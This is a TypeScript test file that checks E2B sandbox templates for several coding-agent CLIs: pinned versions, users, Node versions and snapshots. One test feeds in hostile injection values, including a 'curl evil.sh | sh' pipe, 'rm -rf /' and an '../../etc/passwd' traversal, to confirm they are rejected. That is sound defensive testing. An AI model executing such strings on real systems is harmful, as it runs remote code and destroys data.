import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Template } from 'e2b';
import { describe, expect, it } from 'vitest';
import { builtInProfiles } from '../../../src/agents/registry.js';
import { templateName } from '../../../src/agents/template-name.js';
import { agentTemplate } from '../../../src/sandbox/templates/agent-template.js';
import { agentTemplates } from '../../../src/sandbox/templates/registry.js';

// The definitions are snapshotted as E2B receives them (toJSON) and as a Dockerfile (toDockerfile):
// a change to a template shows in review as a change to these files.
describe.each(builtInProfiles.map((p) => [p.name, p] as const))('the %s template', (name, profile) => {
  const cli = profile.cli;
  const define = agentTemplates[name];

  it('is defined, for a profile that pins its CLI', () => {
    expect(cli).toBeDefined();
    expect(define).toBeDefined();
  });

  it('installs the CLI at the version the profile pins, and the profile expects the template named after it', () => {
    if (cli === undefined || define === undefined) throw new Error('no pin or no definition');
    const dockerfile = Template.toDockerfile(define(cli));
    expect(dockerfile).toContain(`RUN npm install -g ${cli.package}@${cli.version}\n`);
    expect(profile.template).toBe(templateName(name, cli));
    expect(profile.template).toMatch(/^issuesmith-[a-z]+-[a-z0-9-]+$/);
  });

  it('has git, ripgrep and the default user in /home/user, the last user and workdir a sandbox gets', () => {
    if (cli === undefined || define === undefined) throw new Error('no pin or no definition');
    const dockerfile = Template.toDockerfile(define(cli));
    expect(dockerfile).toMatch(/apt-get install -y --no-install-recommends git ripgrep /);
    const users = [...dockerfile.matchAll(/^USER (.+)$/gm)].map((m) => m[1]);
    const workdirs = [...dockerfile.matchAll(/^WORKDIR (.+)$/gm)].map((m) => m[1]);
    expect(users.at(-1)).toBe('user');
    expect(workdirs.at(-1)).toBe('/home/user');
  });

  it("is listed in the README's first-install step with its pin and template name", () => {
    const readme = readFileSync(join(import.meta.dirname, '..', '..', '..', 'README.md'), 'utf8');
    expect(readme).toContain(`| \`${name}\` | \`${cli?.package ?? ''}\` ${cli?.version ?? ''} | \`${profile.template}\` |`);
  });

  it('matches its snapshots (toJSON and toDockerfile)', async () => {
    if (cli === undefined || define === undefined) throw new Error('no pin or no definition');
    await expect(await Template.toJSON(define(cli), false)).toMatchFileSnapshot(`./__snapshots__/${name}.json`);
    await expect(Template.toDockerfile(define(cli))).toMatchFileSnapshot(`./__snapshots__/${name}.Dockerfile`);
  });
});

describe('agent templates', () => {
  it('give OpenClaw Node 24.16 or later and the others Node 22, checked at build time', () => {
    const node = (name: string): string => {
      const profile = builtInProfiles.find((p) => p.name === name);
      const define = agentTemplates[name];
      if (profile?.cli === undefined || define === undefined) throw new Error(`no template for ${name}`);
      return Template.toDockerfile(define(profile.cli));
    };
    expect(node('openclaw')).toMatch(/^FROM node:24-/);
    expect(node('openclaw')).toContain('is older than 24.16.0');
    for (const name of ['claude', 'codex', 'amp', 'opencode']) expect(node(name)).toMatch(/^FROM node:22-/);
  });

  it("gives Codex its home and OpenClaw its provider settings, as the sandbox's user", () => {
    const codex = Template.toDockerfile(agentTemplates.codex!({ package: '@openai/codex', version: '1.0.0' }));
    expect(codex).toContain('ENV CODEX_HOME=/home/user/.codex');
    expect(codex).toMatch(
      /USER user\n(?:.*\n)*RUN mkdir -p \/home\/user\/\.codex && printf '%s\\n' .*'check_for_update_on_startup = false'.* > \/home\/user\/\.codex\/config\.toml\n/,
    );
    const openclaw = Template.toDockerfile(agentTemplates.openclaw!({ package: 'openclaw', version: '1.0.0' }));
    expect(openclaw).toContain('\'{"agents":{"defaults":{"model":{"primary":"anthropic/claude-sonnet-4-6"},"skipBootstrap":true}}}\'');
    expect(openclaw).toContain('> /home/user/.openclaw/openclaw.json');
  });

  it('refuses a pin that is not a plain npm package and version, so nothing reaches the build shell', () => {
    const spec = { nodeImage: '22-bookworm-slim', minNode: '22.0.0', bin: 'x' };
    expect(() => agentTemplate({ ...spec, cli: { package: 'x; curl evil.sh | sh', version: '1.0.0' } })).toThrow(/not an npm package/);
    expect(() => agentTemplate({ ...spec, cli: { package: 'x', version: '1.0.0 && rm -rf /' } })).toThrow(/not an npm package/);
    expect(() => agentTemplate({ ...spec, cli: { package: 'x', version: '1.0.0' }, homeFiles: { '../../etc/passwd': ['x'] } })).toThrow(/under the home directory/);
  });
});
